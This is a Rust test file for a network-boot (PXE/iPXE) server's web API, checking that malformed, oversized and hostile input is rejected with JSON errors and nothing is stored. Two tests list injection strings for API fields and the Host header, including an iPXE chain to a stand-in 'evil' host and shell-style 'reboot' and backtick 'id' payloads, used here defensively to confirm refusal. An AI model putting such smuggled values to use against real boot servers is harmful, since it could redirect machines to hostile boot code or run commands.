//! Bad input: every error is JSON `{"error"}` with the right status and
//! nothing is written.

use bty_proto::BootMode;
use bty_testkit::client::Fetch;
use bty_testkit::web::*;
use serde_json::json;

#[tokio::test]
async fn bad_mac_is_400_with_the_reason() {
    let s = Web::start("").await;
    for p in [
        "/pxe/nope",
        "/pxe/aa:bb:cc:dd:ee/plan",
        "/api/machines/zz:zz:zz:zz:zz:zz",
        "/pxe/aa:bb:cc:dd:ee:ff:00",
    ] {
        let (st, e) = s.get_json(p).await;
        assert_eq!(st, 400, "{p}");
        assert!(
            e["error"].as_str().unwrap().contains("invalid MAC"),
            "{p}: {e}"
        );
    }
    let (st, _) = s.get_json("/api/machines").await;
    assert_eq!(st, 200);
    let (_, v) = s.get_json("/api/machines").await;
    assert_eq!(v, json!([]), "nothing registered");
    s.stop().await;
}

#[tokio::test]
async fn oversized_bodies_are_413() {
    let s = Web::start("").await;
    let big = "x".repeat(200 * 1024);
    let r = s
        .put(&format!("/api/machines/{MAC}"))
        .json(&json!({"name": big}))
        .fetch()
        .await;
    assert_eq!(r.status(), 413);
    let e: serde_json::Value = r.json().await.unwrap();
    assert!(e["error"].as_str().unwrap().contains("too large"));
    let huge = json!({"disks": [], "lshw": "y".repeat(5 * 1024 * 1024)});
    let (st, _) = s.post_json(&format!("/pxe/{MAC}/inventory"), &huge).await;
    assert_eq!(st, 413);
    // 1 MiB inventory is fine (lshw blobs are big).
    s.pxe(MAC).await;
    let ok = json!({"disks": [], "lshw": "y".repeat(1024 * 1024)});
    let (st, _) = s.post_json(&format!("/pxe/{MAC}/inventory"), &ok).await;
    assert_eq!(st, 204);
    s.stop().await;
}

#[tokio::test]
async fn injection_strings_are_refused_at_the_api() {
    let s = Web::start("").await;
    let evil = [
        "x\n#!ipxe\nchain http://evil/",
        "a${net0/mac}",
        "a;reboot",
        "a\"b",
        "a`id`",
        " lead",
    ];
    for e in evil {
        for field in ["target_disk_serial", "name"] {
            let mut body = json!({"boot_mode": "ipxe-exit"});
            body[field] = json!(e);
            let (st, v) = s.put_machine(MAC, &body).await;
            assert_eq!(st, 400, "{field}={e:?}: {v}");
            assert!(v["error"].as_str().unwrap().contains(field), "{v}");
        }
        let (st, v) = s.put_machine(MAC, &json!({"labels": [e]})).await;
        assert_eq!(st, 400, "label {e:?}: {v}");
        let (st, _) = s.put_machine(MAC, &json!({"sanboot_drive": e})).await;
        assert_eq!(st, 400);
        let (st, _) = s.put_machine(MAC, &json!({"image": e})).await;
        assert_eq!(st, 400);
    }
    let (st, _) = s.get_json(&format!("/api/machines/{MAC}")).await;
    assert_eq!(st, 404, "nothing half-written");
    s.stop().await;
}

#[tokio::test]
async fn host_header_injection_is_refused() {
    let s = Web::start("").await;
    for host in ["evil/x", "a b", "h\tchain", "h${x}", "h;x", "h\"x"] {
        for path in [
            "/pxe-bootstrap.ipxe",
            "/pxe/52:54:00:00:00:01",
            "/pxe/52:54:00:00:00:01/plan",
        ] {
            let resp = s
                .raw(&format!(
                    "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
                ))
                .await;
            assert!(resp.starts_with("HTTP/1.1 400"), "{host:?} {path}: {resp}");
            assert!(!resp.contains("chain"), "{resp}");
        }
    }
    let resp = s.raw("GET /pxe-bootstrap.ipxe HTTP/1.0\r\n\r\n").await;
    assert!(
        resp.starts_with("HTTP/1.0 400") || resp.starts_with("HTTP/1.1 400"),
        "{resp}"
    );
    assert!(resp.contains("Host"), "{resp}");
    s.stop().await;
}

#[tokio::test]
async fn unknown_mode_unknown_image_missing_binding_unknown_field() {
    let s = Web::start("").await;
    let (st, v) = s.put_machine(MAC, &json!({"boot_mode": "bty-tui"})).await;
    assert_eq!(st, 400);
    assert!(
        v["error"].as_str().unwrap().contains("unknown boot mode"),
        "{v}"
    );
    let (st, v) = s
        .put_machine(
            MAC,
            &json!({"boot_mode": "bty-flash-once", "image": "nope", "target_disk_serial": "S"}),
        )
        .await;
    assert_eq!(st, 400);
    let msg = v["error"].as_str().unwrap();
    assert!(
        msg.contains("not in the catalog") && msg.contains("catalog.toml"),
        "{msg}"
    );
    let (st, v) = s
        .put_machine(
            MAC,
            &json!({"boot_mode": "bty-flash-always", "image": "debian-12"}),
        )
        .await;
    assert_eq!(st, 400);
    assert!(
        v["error"].as_str().unwrap().contains("target_disk_serial"),
        "{v}"
    );
    let (st, v) = s
        .put_machine(
            MAC,
            &json!({"boot_mode": "bty-flash-always", "target_disk_serial": "S"}),
        )
        .await;
    assert_eq!(st, 400, "{v}");
    let (st, v) = s.put_machine(MAC, &json!({"bty_image_ref": "x"})).await;
    assert_eq!(st, 400);
    assert!(
        v["error"].as_str().unwrap().contains("unknown field"),
        "{v}"
    );
    let r = s
        .put(&format!("/api/machines/{MAC}"))
        .header("content-type", "application/json")
        .body("{not json")
        .fetch()
        .await;
    assert_eq!(r.status(), 400);
    let r = s
        .put(&format!("/api/machines/{MAC}"))
        .body("{}")
        .fetch()
        .await;
    assert_eq!(r.status(), 400, "missing content type");
    let (st, _) = s.get_json(&format!("/api/machines/{MAC}")).await;
    assert_eq!(st, 404);
    // Reports with bad fields.
    let (st, _) = s
        .post_json(
            &format!("/pxe/{MAC}/progress"),
            &json!({"token": "t", "bytes_done": -1, "phase": "writing"}),
        )
        .await;
    assert_eq!(st, 400);
    let (st, _) = s
        .post_json(
            &format!("/pxe/{MAC}/done"),
            &json!({"token": "t", "ok": true, "sha256": "XYZ"}),
        )
        .await;
    assert_eq!(st, 400);
    let (st, _) = s
        .post_json(
            &format!("/pxe/{MAC}/done"),
            &json!({"token": "t", "ok": false, "reason": "r".repeat(3000)}),
        )
        .await;
    assert_eq!(st, 400);
    // Unknown endpoint and events query.
    let (st, e) = s.get_json("/nope").await;
    assert_eq!(st, 404);
    assert!(e["error"].is_string());
    let (st, _) = s.get_json("/api/events?limit=abc").await;
    assert_eq!(st, 400);
    let (st, _) = s.get_json("/api/events?mac=bad").await;
    assert_eq!(st, 400);
    s.stop().await;
}

#[tokio::test]
async fn machine_api_round_trip_and_delete() {
    let s = Web::start("").await;
    let (st, m) = s
        .put_machine(MAC, &json!({"boot_mode": "bty-flash-once", "image": "debian-12", "target_disk_serial": "WD-WCC4N7KX1234",
                                  "sanboot_drive": "0x81", "labels": ["rack 3/row:2", "ci", "CI"], "name": "runner-07"}))
        .await;
    assert_eq!(st, 201, "{m}");
    assert_eq!(m["labels"], json!(["ci", "rack 3/row:2"]));
    assert_eq!(m["name"], "runner-07");
    let (_, list) = s.get_json("/api/machines").await;
    assert_eq!(list.as_array().unwrap().len(), 1);
    let (_, imgs) = s.get_json("/api/images").await;
    assert_eq!(imgs["images"].as_array().unwrap().len(), 2);
    assert_eq!(imgs["static_file"]["state"], "ok");
    assert_eq!(imgs["withcache"]["state"], "off");
    let (_, cat) = s.get_text("/catalog.toml").await;
    assert!(
        cat.contains("version = 1") && cat.contains("debian-12"),
        "{cat}"
    );
    let (_, doc) = s.get_json("/api/openapi.json").await;
    assert!(doc["paths"]["/pxe/{mac}/plan"]["get"].is_object());
    let r = s.delete(&format!("/api/machines/{MAC}")).fetch().await;
    assert_eq!(r.status(), 204);
    let r = s.delete(&format!("/api/machines/{MAC}")).fetch().await;
    assert_eq!(r.status(), 404);
    assert!(
        s.events(MAC)
            .await
            .iter()
            .any(|e| e["kind"] == "machine.deleted"),
        "events kept"
    );
    // Re-created after delete starts a clean history.
    s.flash(MAC, BootMode::FlashOnce).await;
    let (_, hist) = s.get_json(&format!("/api/machines/{MAC}/cycles")).await;
    assert_eq!(hist, json!([]));
    let (st, page) = s.get_json(&format!("/api/events?mac={MAC}&limit=2")).await;
    assert_eq!(st, 200);
    let next = page["next_before_id"].as_i64().unwrap();
    let (_, page2) = s
        .get_json(&format!("/api/events?mac={MAC}&limit=2&before_id={next}"))
        .await;
    assert!(page2["events"][0]["id"].as_i64().unwrap() < next);
    s.stop().await;
}
